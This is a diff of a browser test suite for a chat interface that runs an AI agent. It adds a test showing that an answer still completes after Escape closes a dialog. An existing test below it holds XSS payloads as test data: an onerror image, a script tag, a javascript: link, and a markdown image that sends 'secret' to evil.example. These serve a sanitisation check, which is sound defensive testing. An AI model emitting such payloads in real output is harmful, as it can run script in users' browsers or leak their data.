@@ -115,6 +115,25 @@ describe.skipIf(missing !== null)(`chat in a browser${missing === null ? '' : ` 
     await open.page.getByRole('button', { name: /shell_exec.*stopped/ }).waitFor();
   });
 
+  it('goes on when Escape closes a dialog', async () => {
+    const gate = Promise.withResolvers<void>();
+    const ask = async function* (turn: ScriptedTurn): AsyncGenerator<AgentEvent> {
+      yield* start(turn);
+      yield { type: 'text-delta', text: 'Working on it. ' };
+      await gate.promise;
+      yield { type: 'answer', text: turn.signal.aborted ? 'cut off' : 'carried through', toolCalls: [] };
+    };
+    await using open = await openPage({ page: folder(), script: { ask } });
+    await open.ask('take your time');
+    await open.page.getByText('Working on it.').waitFor();
+    await open.page.getByRole('button', { name: /Brain/ }).click();
+    await open.page.getByRole('dialog').waitFor();
+    await open.page.keyboard.press('Escape');
+    await open.page.getByRole('dialog').waitFor({ state: 'detached' });
+    gate.resolve();
+    await open.page.getByText('carried through').first().waitFor();
+  });
+
   it('makes text of whatever a model writes, never HTML or a link that runs something', async () => {
     const text =
       '<img src=x onerror="document.title=1"> <script>document.title=2</script>\n\n[click](javascript:document.title=3) ![p](https://evil.example/?q=secret) [fine](https://example.org/) **bold**';
